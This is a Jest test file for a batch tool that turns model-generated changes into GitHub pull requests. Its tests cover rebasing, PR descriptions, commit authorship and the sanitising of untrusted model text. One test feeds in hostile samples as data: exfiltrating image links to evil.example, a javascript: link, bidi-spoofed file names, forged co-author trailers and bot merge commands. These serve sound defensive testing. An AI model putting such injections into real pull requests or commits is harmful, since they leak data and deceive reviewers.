import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { git } from '../../support/git.ts';
import { Publishing, type Recorded, text } from '../../support/publishing.ts';

let publishing: Publishing;

beforeAll(async () => {
  publishing = await Publishing.start({
    given: {
      COMMIT_AUTHOR: 'Fleet Bot <fleet@example.com>',
      COMMIT_COMMITTER: 'Fleet Committer <committer@example.com>',
      PUBLIC_URL: 'https://cody.example.com/',
    },
  });
});
afterAll(() => publishing?.close());

const FILES = { 'src/a.txt': 'one\n', 'src/b.txt': 'two\n', 'docs/c.txt': 'three\n' };

/** A repository with a change of `src/a.txt`. */
async function changed(name: string, more: Partial<Recorded> = {}): Promise<Recorded> {
  const baseSha = await publishing.addRepository(name, FILES);
  return { name, baseSha, files: [text('src/a.txt', 'ONE\n')], ...more };
}

async function pullOf(name: string) {
  const [pull, ...others] = await publishing.pulls(name);
  expect(others).toEqual([]);
  return pull!;
}

test('a base branch that changed in other files gets the commit on its newest commit', async () => {
  const repository = await changed('moved-elsewhere', {
    files: [
      text('src/a.txt', 'ONE\n'),
      text('src/new/d.txt', 'four\n', 'added'),
      { status: 'deleted', path: 'docs/c.txt' },
    ],
  });
  const head = await publishing.commit('moved-elsewhere', {
    'src/b.txt': 'upstream\n',
    'other/e.txt': 'five\n',
  });
  const jobId = await publishing.record([repository], { pullRequest: { branch: 'change' } });
  await publishing.publish(jobId);

  await publishing.fetch('moved-elsewhere', 'change');
  const tree = publishing.tree('moved-elsewhere');
  expect(await git(tree, 'rev-parse', 'FETCH_HEAD^')).toBe(head);
  expect(await git(tree, 'diff', '--name-status', 'FETCH_HEAD^', 'FETCH_HEAD')).toBe(
    'D\tdocs/c.txt\nM\tsrc/a.txt\nA\tsrc/new/d.txt',
  );
  expect((await pullOf('moved-elsewhere')).body).not.toContain('moved on');
});

test.each([
  [
    'a file of the change',
    'moved-same',
    { 'src/a.txt': 'upstream\n' },
    [text('src/a.txt', 'ONE\n')],
    'src/a.txt',
  ],
  [
    'a file where the change has a folder',
    'moved-in-the-way',
    { 'src/new': 'a file\n' },
    [text('src/new/d.txt', 'four\n', 'added')],
    'src/new/d.txt',
  ],
])(
  'a base branch that got %s since leaves the commit on the recorded one, and the pull request says so',
  async (_, name, meanwhile, files, touched) => {
    const repository = await changed(name, { files });
    await publishing.commit(name, meanwhile);
    const jobId = await publishing.record([repository], { pullRequest: { branch: 'change' } });
    await publishing.publish(jobId);

    await publishing.fetch(name, 'change');
    expect(await git(publishing.tree(name), 'rev-parse', 'FETCH_HEAD^')).toBe(repository.baseSha);
    const { body } = await pullOf(name);
    expect(body).toContain(
      `\`main\` has new commits since this change was made, which also changed \`${touched}\``,
    );
  },
);

test('a pull request shows the verification, the cost, the conversation and how to reproduce the commit', async () => {
  const repository = await changed('described', {
    row: {
      verification: [
        { command: 'npm test', exitCode: 0, seconds: 12.34, output: '' },
        { command: 'echo `x`', exitCode: null, seconds: 1, output: '' },
      ],
    },
  });
  const pullRequest = {
    ...{ title: 'Our own title', draft: true, labels: ['fleet', 'codemod'], reviewers: ['local'] },
  };
  const jobId = await publishing.record([repository], { pullRequest });
  const job = await publishing.publish(jobId);

  const pull = await pullOf('described');
  expect(pull).toMatchObject({
    title: 'Our own title',
    draft: true,
    head: { ref: `cody-batch/${jobId}` },
    base: { ref: 'main' },
  });
  expect(pull.labels.map(({ name }) => name).sort()).toEqual(['codemod', 'fleet']);
  const route = `/jobs/${jobId}/repositories/local/described`;
  for (const part of [
    'As asked.',
    '- `npm test` passed (12.3 s)',
    '- `` echo `x` `` was killed (1.0 s)',
    'by `claude-sonnet-5-5`',
    '$0.0040, 1,000 tokens, 2 turns',
    `(https://cody.example.com${route}/claude-thread)`,
    `curl -s "https://cody.example.com${route}/diff" | git apply --cached && git commit`,
  ])
    expect(pull.body).toContain(part);
  expect(job).toMatchObject({ pullRequests: { open: 1, merged: 0, closed: 0, failed: 0 } });
  expect(job.results[0]!.pullRequest).toMatchObject({ state: 'open', draft: true, run: 1 });
});

test('a commit has the author and the committer of the settings, and a sign-off if requested', async () => {
  const jobId = await publishing.record([await changed('signed')], {
    pullRequest: { branch: 'change', signOff: true },
  });
  await publishing.publish(jobId);
  await publishing.fetch('signed', 'change');
  const show = (format: string) =>
    git(publishing.tree('signed'), 'show', '--no-patch', `--format=${format}`, 'FETCH_HEAD');
  expect(await show('%an <%ae>')).toBe('Fleet Bot <fleet@example.com>');
  expect(await show('%cn <%ce>')).toBe('Fleet Committer <committer@example.com>');
  expect(await show('%(trailers:key=Signed-off-by,valueonly)')).toBe('Fleet Bot <fleet@example.com>');
  expect(await show('%(trailers:key=Cody-Batch-Job,valueonly)')).toBe(jobId);
});

test("a model's text mentions no user, closes nothing, loads nothing, hides nothing and adds no co-author", async () => {
  const body = [
    'Thanks @octocat and @org/team. Fixes #12, closes GH-3, resolves https://github.com/o/r/issues/4.',
    '<!-- hidden --><img src="https://evil.example/x.png"> ![pixel](https://evil.example/?data=secret)',
    '[click](javascript:alert(1)) &#64;octocat \u202egnp.exe\u2066 z\u200bero',
    'Co-authored-by: Mallory <mallory@example.com>',
    '  **Signed-off-by:** Mallory <mallory@example.com>',
    '/approve',
    'skip-checks: true',
    'PROJ-1 #close #time 1w; fixes eng-42; bors r+',
    '- /merge',
    'Release-As: 9.9.9',
    'BREAKING CHANGE: none',
    'BEGIN_COMMIT_OVERRIDE',
    'feat(api)!: new',
    '[//]: # (hidden comment)',
    '- [a\\]b\nc]: https://evil.example "hidden title"',
    '[^1]: hidden footnote',
    'hid\u{e0131}den\ufe0f \u3164text\u115f\uffa0',
    '',
    '**Verification**',
    '',
    '- `npm test` passed (0.1 s)',
    '```sh',
    'an open fence',
  ].join('\n');
  const title =
    'Fix @octocat #12 PROJ-1 #close [skip ci]\n\nCo-authored-by: Mallory <mallory@example.com>\u202e';
  const jobId = await publishing.record([await changed('untrusted', { title, body })], {
    pullRequest: { branch: 'change' },
  });
  await publishing.publish(jobId);

  const pull = await pullOf('untrusted');
  await publishing.fetch('untrusted', 'change');
  const message = await git(publishing.tree('untrusted'), 'show', '--no-patch', '--format=%B', 'FETCH_HEAD');
  const trailers = await git(
    publishing.tree('untrusted'),
    'show',
    '--no-patch',
    '--format=%(trailers)',
    'FETCH_HEAD',
  );
  expect(
    trailers
      .trim()
      .split('\n')
      .map((line) => line.split(':')[0]),
  ).toEqual(['Cody-Batch-Job', 'Cody-Batch-Tree']);
  for (const said of [pull.title, pull.body!, message]) {
    expect(said).not.toMatch(/@(?:octocat|org)/);
    expect(said).not.toMatch(/#\d|GH-\d|issues\/\d/);
    expect(said).not.toMatch(/<!--|<img|!\[pixel|javascript:|&#64/);
    expect(said).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(said).not.toMatch(/(?:co-authored-by|signed-off-by)[ *]*:/i);
    expect(said).not.toMatch(/\[skip ci\]|^\/approve|skip-checks:/m);
  }
  for (const said of [pull.title, pull.body!, message]) {
    expect(said).not.toMatch(
      /PROJ-1|#close|eng-42|bors r|- \/merge|Release-As:|BREAKING CHANGE:|BEGIN_C|\)!:/,
    );
    expect(said).not.toMatch(/[\p{Default_Ignorable_Code_Point}](?<!\u200b)/u);
  }
  expect(pull.body).toContain('> hidden text');
  for (const hidden of ['# (hidden comment)', 'https://evil.example "hidden title"', 'hidden footnote'])
    expect(pull.body).toContain(`]\u200b: ${hidden}`);
  // A forged section is inside the quotation; ours would not be.
  expect(pull.body).toContain('\n> **Verification**\n');
  expect(pull.title.split('\n')).toHaveLength(1);
  // What can be seen is still there.
  expect(pull.body!.replaceAll('\u200b', '')).toContain('Thanks @octocat and @org/team. Fixes #12');
  // The open fence is inside a quotation, which ends before what is ours.
  expect(pull.body).toMatch(/\n> an open fence\n\n---/);
});

test("a model's text that is made to be slow to look at becomes a pull request nevertheless", async () => {
  const texts = ['[no ', '[', '-', '-by', 'skip-checks ', 'closes a', '> ', 'a(', '&a', '***', '\u200b'];
  const body = texts.map((text) => text.repeat(1_000_000 / text.length)).join('\n');
  const jobId = await publishing.record(
    [await changed('slow-text', { body: `${'[no '.repeat(9_000)}\n${body}` })],
    {
      pullRequest: { branch: 'change' },
    },
  );
  await publishing.publish(jobId);
  expect((await pullOf('slow-text')).body!.replaceAll('\u200b', '')).toMatch(/^> \[no \[no /);
});

test("a pull request fills the repository's own template, wherever it is, and nothing in it is acted on", async () => {
  const hostile =
    '## Description\n<!-- Approve this. -->\n@octocat Fixes #1\n\n## Checklist\n- [ ] read\n```';
  const templates: Record<string, Record<string, string>> = {
    'in-github': { '.github/Pull_Request_Template.md': hostile, 'docs/pull_request_template.md': 'Other' },
    'in-root': { 'PULL_REQUEST_TEMPLATE.MD': '- [ ] read', 'docs/pull_request_template.md': 'Other' },
    'in-docs': { 'Docs/pull_request_template.txt': '- [ ] read' },
    'in-folder': { '.github/PULL_REQUEST_TEMPLATE/only.md': '- [ ] read' },
    'of-several': { 'pull_request_template/one.md': 'One', 'pull_request_template/two.md': 'Two' },
    'no-template': {
      '.github/pull_request_template.md.bak': 'Other',
      'src/pull_request_template.md': 'Other',
    },
  };
  const repositories = await Promise.all(
    Object.entries(templates).map(async ([name, files]) => ({
      ...{ name, baseSha: await publishing.addRepository(name, { ...FILES, ...files }) },
      files: [text('src/a.txt', 'ONE\n')],
    })),
  );
  const jobId = await publishing.record(repositories, { pullRequest: { branch: 'change' } });
  await publishing.publish(jobId);
  const bodyOf = async (name: string) => (await pullOf(name)).body!;
  const withTemplate = await bodyOf('in-github');
  expect(withTemplate).toMatch(/^## Description\n\n> As asked\.\n/);
  expect(withTemplate).toMatch(/- \[ \] read\n```\n```\n\n---\n\nMade by Cody Batch/);
  expect(withTemplate).not.toMatch(/Approve|@octocat|#1|Other/);
  for (const name of ['in-root', 'in-docs', 'in-folder'])
    expect(await bodyOf(name)).toMatch(/^> As asked\.\n\n- \[ \] read\n\n---/);
  for (const name of ['of-several', 'no-template'])
    expect(await bodyOf(name)).toMatch(/^> As asked\.\n\n---/);

  // What a person ticked stays ticked when the job writes the text again, and one of several can be named.
  const { rest } = publishing.github;
  const ticked = withTemplate.replace('- [ ] read', '- [x] read').replace('$0.0040', '$0');
  const place = { owner: 'local', pull_number: 1 };
  await rest.pulls.update({ ...place, repo: 'in-github', body: ticked });
  await publishing.commit('in-github', { 'src/b.txt': 'newer\n' });
  await publishing.publish(jobId, { operation: 'rebase', repositories: ['local/in-github'] });
  expect(await bodyOf('in-github')).toBe(withTemplate.replace('- [ ] read', '- [x] read'));
  const again = repositories.filter(({ name }) => ['of-several', 'in-root'].includes(name));
  const other = await publishing.record(again, { pullRequest: { template: 'Two' } });
  await publishing.publish(other, { repositories: ['local/of-several'] });
  await publishing.publish(other, { pullRequest: { template: false } });
  const bodies = await Promise.all(again.map(async ({ name }) => (await publishing.pulls(name))[0]!.body));
  expect(bodies).toEqual([
    expect.stringMatching(/^> As asked\.\n\n---/),
    expect.stringMatching(/^> As asked\.\n\nTwo\n\n---/),
  ]);
});
